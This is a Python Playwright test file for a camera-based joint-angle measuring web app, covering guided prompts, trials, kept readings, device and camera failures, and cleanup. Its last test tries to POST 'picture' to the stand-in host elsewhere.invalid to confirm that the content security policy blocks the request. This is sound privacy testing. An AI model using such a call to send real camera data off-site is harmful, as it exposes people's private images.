"""Measuring live: what is shown, what becomes of trouble, and that everything is given back.

The page and its camera are real; coxa and the network are played (tests/browser/live.py), so that
every state comes at once. The last ones are wholly real.
"""

import struct
from collections.abc import Callable, Iterator
from typing import Any
from uuid import uuid4

import pytest
from playwright.sync_api import Browser, Page, WebSocket, expect

from tests.browser.conftest import Watched, a_person, a_reading
from tests.browser.live import INWARD, MEASURING, Coxa, result, trial, with_eyes
from tests.process import Server, serving

pytestmark = pytest.mark.browser

GUIDED = f"/measure/{INWARD}?side=left"
ALONE = f"{GUIDED}&hands_free=1"
WAITS_MS = 30_000


@pytest.fixture(scope="module")
def household(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    with serving(tmp_path_factory.mktemp("live")) as found:
        a_person(found)
        yield found


def only_person(server: Server) -> str:
    (person,) = server.client.get("/api/persons").json()
    return str(person["id"])


class Room:
    """A page with a camera, and who plays coxa and the network behind it."""

    def __init__(self, browser: Browser, server: Server, allowed: bool = True) -> None:
        may = ["camera"] if allowed else []
        self.context = browser.new_context(
            viewport={"width": 390, "height": 844}, permissions=may, reduced_motion="no-preference"
        )
        self.page: Page = self.context.new_page()
        self.watched = Watched(self.page, server)
        self.server = server
        with_eyes(self.page)
        self.coxa = Coxa(self.page)

    def open(self, path: str = ALONE) -> Page:
        return self.watched.open(path)

    def begin(self) -> Page:
        """The guided way, as far as the camera runs."""
        page = self.open(GUIDED)
        page.get_by_role("button", name="Turn on the camera").click()
        self.says("Good. Stay like this.")
        return page

    def says(self, line: str) -> None:
        expect(self.page.get_by_test_id("line")).to_have_text(line, timeout=WAITS_MS)

    def made(self) -> dict[str, Any]:
        found: dict[str, Any] = self.page.evaluate(
            "({ ...made, tracks: made.tracks.map(track => track.readyState) })"
        )
        return found

    def until(self, found: Callable[[], list[Any]], count: int = 1) -> list[Any]:
        """Wait for so many of something."""
        for _ in range(WAITS_MS // 50):
            if len(found()) >= count:
                return found()
            self.page.wait_for_timeout(50)
        raise AssertionError(f"{len(found())} of {count} came")


@pytest.fixture
def room(browser: Browser, household: Server) -> Iterator[Room]:
    found = Room(browser, household)
    yield found
    found.context.close()
    assert found.watched.foreign == []
    assert found.watched.complaints == []


def test_from_framing_to_a_kept_reading(room: Room) -> None:
    page = room.begin()
    hello = room.coxa.said[0]
    assert (hello["side"], hello["hands_free"], hello["keep"]) == ("left", False, None)
    assert (hello["width"], hello["height"]) == (640, 480)
    room.coxa.now = {"help": {"word": "step-back", "say": "Step back"}}
    room.says("Step back")
    expect(page.locator(".ghost")).to_have_count(2)
    room.coxa.now = {"state": "check"}
    room.says("Lift your left foot for a moment.")
    room.coxa.now = MEASURING
    room.says("Sit tall. Knee stays still.")
    room.coxa.now = {**MEASURING, "phase": "hold", "angle_deg": 31.4, "held_s": 0.5}
    room.says("Hold it there.")
    expect(page.locator(".live-angle")).to_have_text("31°")
    expect(page.locator(".over-picture .shank")).to_have_count(2)
    assert page.evaluate("document.getAnimations().length") == 0
    room.coxa.now = MEASURING
    room.coxa.tell(**trial(1, 31.4, settled=False, say="And rest."))
    room.says("And rest.")
    expect(page.get_by_role("listitem").filter(has_text="Trial 1")).to_contain_text("…")
    room.coxa.tell(**trial(1, 32.2))
    expect(page.get_by_role("listitem").filter(has_text="Trial 1")).to_contain_text("32°")
    expect(page.get_by_role("listitem").filter(has_text="Trial 2")).to_contain_text("now")
    room.coxa.tell(**trial(2, 29, valid=False, why="Not held: 0.3 s, 1 s is needed."))
    expect(page.get_by_text("Not counted: Not held")).to_be_visible()
    room.coxa.tell(**result(32.2, 33.1, 31.8))
    heading = page.get_by_test_id("reading")
    expect(heading).to_have_text("Left: 32°, give or take 6.")
    expect(heading).to_be_focused()
    expect(page.get_by_text("computer-made people only")).to_be_visible()
    page.get_by_label("Warm").check()
    page.get_by_role("button", name="Keep this reading").click()
    expect(page.get_by_text("Taken warm")).to_be_visible()
    person = only_person(room.server)
    rows = room.server.client.get("/api/readings", params={"person_id": person}).json()
    (row,) = [row for row in rows if row["warm"]]
    assert (row["method"], row["angle_deg"], row["side"]) == ("camera", 32.2, "left")
    assert row["source"] == {"model": "heavy", "coxa": "0.1.0"}
    room.coxa.now = {}
    page.get_by_role("button", name="Now the right").click()
    room.says("Good. Stay like this.")
    assert room.coxa.said[-1]["side"] == "right"


@pytest.mark.long
def test_no_reading_is_said_and_can_be_tried_again(room: Room) -> None:
    page = room.begin()
    room.coxa.tell(**result(31.0))
    expect(page.get_by_role("heading", level=1)).to_have_text("No reading this time.")
    expect(page.get_by_text("Not filmed from the front.")).to_be_visible()
    expect(page.get_by_test_id("reading")).to_have_count(0)
    page.get_by_role("button", name="Measure again").click()
    expect(page.get_by_role("button", name="Turn on the camera")).to_be_visible()


def test_hands_free_begins_and_keeps_by_itself(room: Room) -> None:
    page = room.open()
    room.says("Good. Stay like this.")
    person = only_person(room.server)
    key = room.coxa.said[0]["keep"]
    a_reading(room.server, person, "left", 33, id=key, method="camera")
    room.coxa.tell(**result(33, 32, 34))
    room.coxa.tell(type="kept", reading_id=key)
    expect(page.get_by_test_id("reading")).to_have_text("Left: 33°, give or take 6.")
    assert room.made()["tracks"] == ["ended"]
    page.get_by_role("button", name="Throw it away").click()
    expect(page.get_by_text("Thrown away. Nothing of it is kept.")).to_be_visible()
    rows = room.server.client.get("/api/readings", params={"person_id": person}).json()
    assert key not in [row["id"] for row in rows]


def test_a_stop_before_two_trials_keeps_nothing_and_says_so(room: Room) -> None:
    page = room.begin()
    room.coxa.now = MEASURING
    room.coxa.tell(**trial(1, 32.2))
    expect(page.get_by_role("listitem").filter(has_text="Trial 1")).to_contain_text("32°")
    page.get_by_role("button", name="Stop").click()
    expect(page.get_by_role("alert")).to_contain_text("Nothing was kept")


def test_a_trial_that_is_settled_late_stays_in_its_place(room: Room) -> None:
    page = room.begin()
    room.coxa.now = MEASURING
    room.coxa.tell(**trial(1, 31.4, settled=False))
    room.coxa.tell(**trial(2, 36))
    room.coxa.tell(**trial(1, 33))
    expect(page.get_by_role("listitem").filter(has_text="Trial 1")).to_contain_text("33°")
    expect(page.get_by_role("listitem").filter(has_text="Trial 2")).to_contain_text("36°")


def test_a_mirroring_camera_is_asked_about(room: Room) -> None:
    page = room.begin()
    room.coxa.now = {"state": "stopped"}
    room.coxa.tell(type="stopped", why="mirrored", foot="right", say="I saw your right foot.")
    room.says("I saw your right foot.")
    page.get_by_role("button", name="My left foot").click()
    assert room.coxa.heard("mirrored") == [{"type": "mirrored", "mirrored": True}]
    room.coxa.now = {}
    room.says("Good. Stay like this.")
    expect(page.locator(".flipped")).to_have_count(0)  # it is a mirror already


@pytest.mark.long
def test_the_other_foot_stops_and_goes_on(room: Room) -> None:
    page = room.open()
    room.says("Good. Stay like this.")
    room.coxa.now = {"state": "stopped"}
    room.coxa.tell(type="stopped", why="other-foot", foot="right", say="That was your right foot.")
    room.says("That was your right foot.")
    page.get_by_role("button", name="Go on").click()
    assert room.coxa.heard("go_on")


def test_held_pictures_are_looked_at_by_the_heavy_network(room: Room) -> None:
    room.open()
    room.coxa.now = {**MEASURING, "keep": True}
    room.says("Sit tall. Knee stays still.")
    before = len(room.coxa.pictures) + 2  # those on their way were not yet asked to be kept
    sent = room.until(lambda: room.coxa.pictures[before:], 6)[:6]
    asked = [{"t_s": seen_at(one), "mirrored": bool(n % 2)} for n, one in enumerate(sent)]
    room.coxa.now = MEASURING
    room.coxa.tell(type="again", trial=1, pictures=asked)
    again = room.until(lambda: [one for one in room.coxa.pictures if one[1] == 1], len(asked))
    assert [(seen_at(one), one[2], one[3]) for one in again] == [
        (one["t_s"], int(one["mirrored"]), 2) for one in asked
    ]
    room.coxa.tell(type="again", trial=2, pictures=[{"t_s": 1.0, "mirrored": False}])
    failed = room.until(lambda: room.coxa.heard("again_failed"))
    assert failed == [{"type": "again_failed", "trial": 2}]


def size_of(picture: bytes) -> tuple[int, int]:
    width, height = struct.unpack_from("<HH", picture, 16)
    return width, height


def seen_at(picture: bytes) -> float:
    return float(struct.unpack_from("<d", picture, 8)[0])


# --- trouble


def test_a_slow_device_steps_down_and_says_so(room: Room) -> None:
    page = room.open()
    room.says("Good. Stay like this.")
    assert room.made()["loads"][:2] == ["full GPU", "full CPU"]
    page.evaluate("made.took_ms = 140")
    expect(page.get_by_text("This device is slow")).to_be_visible(timeout=WAITS_MS)
    assert "lite CPU" in room.made()["loads"]


def test_coxa_away_and_back(room: Room) -> None:
    room.open()
    room.coxa.now = MEASURING
    room.says("Sit tall. Knee stays still.")
    room.coxa.ready = {"resumed": True}
    room.coxa.sockets[-1].close(code=1011, reason="gone")
    first, second = room.until(lambda: room.coxa.heard("hello"), 2)
    assert first == second
    room.coxa.tell(**trial(1, 31.4))
    expect(room.page.get_by_role("listitem").filter(has_text="Trial 1")).to_contain_text("31°")


@pytest.mark.long
def test_another_window_has_taken_over(room: Room) -> None:
    page = room.open()
    room.says("Good. Stay like this.")
    room.coxa.sockets[-1].close(code=4409, reason="taken")
    expect(page.get_by_role("alert")).to_contain_text("Another window")
    expect(page.get_by_role("button", name="Turn on the camera")).to_be_visible()


def test_a_camera_that_is_not_allowed(browser: Browser, household: Server) -> None:
    room = Room(browser, household, allowed=False)
    page = room.open(GUIDED)
    page.get_by_role("button", name="Turn on the camera").click()
    room.says("The camera was not allowed. Allow it, then try again.")
    room.context.grant_permissions(["camera"])
    page.get_by_role("button", name="Try again").click()
    room.says("Good. Stay like this.")
    room.context.close()


def test_a_camera_that_goes_and_comes_back(room: Room) -> None:
    page = room.open()
    room.coxa.now = MEASURING
    room.says("Sit tall. Knee stays still.")
    room.coxa.tell(**trial(1, 31.4))
    page.evaluate("made.tracks[0].dispatchEvent(new Event('ended'))")
    room.says("The camera has gone. Plug it in again, or try again.")
    page.evaluate("navigator.mediaDevices.dispatchEvent(new Event('devicechange'))")
    room.says("Foot slowly out. Hold.")
    expect(page.get_by_role("listitem").filter(has_text="Trial 1")).to_contain_text("31°")
    assert len(room.coxa.heard("hello")) == 1


def test_a_phone_that_is_turned(room: Room) -> None:
    page = room.open()
    room.coxa.now = MEASURING
    room.says("Sit tall. Knee stays still.")
    page.evaluate("made.tracks[0].applyConstraints({ width: 480, height: 640 })")
    upright = room.until(lambda: [one for one in room.coxa.pictures if size_of(one) == (480, 640)])
    assert size_of(room.coxa.pictures[0]) == (640, 480)
    assert len(upright[0]) == 420
    expect(page.locator(".over-picture")).to_have_attribute("viewBox", "0 0 480 640")


def test_a_covered_camera_is_waited_for(room: Room) -> None:
    page = room.open()
    room.says("Good. Stay like this.")
    page.evaluate("made.tracks[0].dispatchEvent(new Event('mute'))")
    room.says("The camera shows nothing just now. Is it covered or paused?")
    page.evaluate("made.tracks[0].dispatchEvent(new Event('unmute'))")
    room.says("Good. Stay like this.")


def test_without_an_encrypted_page_it_says_what_to_do(room: Room) -> None:
    room.page.add_init_script("Object.defineProperty(window, 'isSecureContext', { value: false })")
    page = room.open()
    expect(page.get_by_text("The camera needs an encrypted address.")).to_be_visible()
    expect(page.get_by_role("button", name="Turn on the camera")).to_have_count(0)


def test_nobody_is_measured_before_the_stop_list(browser: Browser, own_server: Server) -> None:
    own_server.json("POST", "/api/persons", id=str(uuid4()), name="Bo")
    room = Room(browser, own_server)
    page = room.open()
    expect(page.get_by_role("heading", level=1)).to_have_text("First a few questions")
    expect(page.get_by_role("link", name="Answer them")).to_be_visible()
    assert (room.made()["tracks"], room.coxa.sockets) == ([], [])
    room.context.close()


@pytest.mark.parametrize("how", ["away", pytest.param("stop", marks=pytest.mark.long)])
def test_leaving_gives_everything_back(room: Room, how: str) -> None:
    page = room.begin()
    room.coxa.now = {**MEASURING, "keep": True}
    room.says("Sit tall. Knee stays still.")
    if how == "stop":
        page.keyboard.press("Escape")
    else:
        page.evaluate("history.pushState(null, '', '/learn'); dispatchEvent(new Event('coxa-go'))")
    expect(page.locator(".live")).to_have_count(0)
    page.wait_for_timeout(300)
    made = room.made()
    assert made["tracks"] == ["ended"]
    assert made["ended"] == made["workers"]
    assert room.coxa.gone == 1
    # what was inside a worker just then went with it
    assert 0 <= made["bitmaps"] - made["closed"] <= 1
    assert page.evaluate("document.querySelectorAll('video').length") == 0


# --- wholly real


def test_a_real_network_looks_and_nothing_leaves(browser: Browser, household: Server) -> None:
    """The drawn camera shows nobody; that is said by the network and by coxa."""
    context = browser.new_context(permissions=["camera"])
    page = context.new_page()
    watched = Watched(page, household)
    sent: list[int] = []
    asked: list[tuple[str, str, int]] = []

    def listen(socket: WebSocket) -> None:
        assert socket.url == household.url.replace("http", "ws") + "/api/live"
        socket.on("framesent", lambda data: sent.append(len(data)))

    page.on("websocket", listen)
    page.on("request", lambda one: asked.append((one.method, one.url, len(one.post_data or ""))))
    watched.open(ALONE)
    expect(page.get_by_test_id("line")).to_have_text("I can't see you", timeout=60_000)
    page.wait_for_timeout(500)
    page.get_by_role("button", name="Stop").click()
    assert len(sent) > 5
    assert max(sent) <= 420
    assert sent.count(24) == len(sent) - 1  # all but hello
    assert [one for one in asked if one[0] != "GET"] == []
    bundles = [url for _, url, _ in asked if "/models/" in url]
    assert bundles
    assert all("?" in url for url in bundles)
    assert watched.foreign == []
    assert watched.complaints == []
    context.close()


def test_the_page_could_not_send_a_picture_elsewhere(browser: Browser, household: Server) -> None:
    page = browser.new_page()
    Watched(page, household).open(GUIDED)
    refused = page.evaluate(
        """() => new Promise(done => {
            addEventListener('securitypolicyviolation', event => done(event.effectiveDirective));
            fetch('https://elsewhere.invalid/', { method: 'POST', body: 'picture' }).catch(() => 0);
        })"""
    )
    assert refused == "connect-src"
    page.close()
